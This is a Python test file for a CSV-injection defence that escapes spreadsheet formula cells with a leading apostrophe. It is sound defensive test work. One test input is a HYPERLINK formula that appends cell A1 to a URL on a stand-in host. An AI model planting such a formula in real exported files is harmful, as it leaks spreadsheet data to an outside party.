"""CSV cells a spreadsheet would evaluate (OWASP: CSV injection) are written as text."""

import pyarrow as pa
from hypothesis import given
from hypothesis import strategies as st

from indicators.results import spreadsheet_safe, spreadsheet_safe_table

FORMULA_CHARACTERS = "=+-@\t\r"


def test_formula_text_gets_an_apostrophe() -> None:
    assert spreadsheet_safe('=HYPERLINK("http://x.example/?"&A1,"click")') == (
        '\'=HYPERLINK("http://x.example/?"&A1,"click")'
    )
    assert spreadsheet_safe("+SUM(1+1)") == "'+SUM(1+1)"
    assert spreadsheet_safe("-2+3") == "'-2+3"
    assert spreadsheet_safe("@SUM(A1)") == "'@SUM(A1)"
    assert spreadsheet_safe("\t=1") == "'\t=1"
    assert spreadsheet_safe("U-1") == "U-1"
    assert spreadsheet_safe("") == ""


@given(st.text())
def test_never_starts_a_formula_and_keeps_the_text(value: str) -> None:
    safe = spreadsheet_safe(value)
    assert safe[:1] not in set(FORMULA_CHARACTERS)
    assert safe == value or safe == "'" + value
    assert (safe != value) == (value[:1] in set(FORMULA_CHARACTERS))


@given(st.lists(st.one_of(st.none(), st.text()), max_size=20))
def test_the_table_form_agrees_with_the_cell_form(values: list[str | None]) -> None:
    table = pa.table({"unit_code": pa.array(values, pa.string()), "n": list(range(len(values)))})
    safe = spreadsheet_safe_table(table)
    assert safe.schema == table.schema
    assert safe["unit_code"].to_pylist() == [
        None if v is None else spreadsheet_safe(v) for v in values
    ]
    assert safe["n"].to_pylist() == list(range(len(values)))
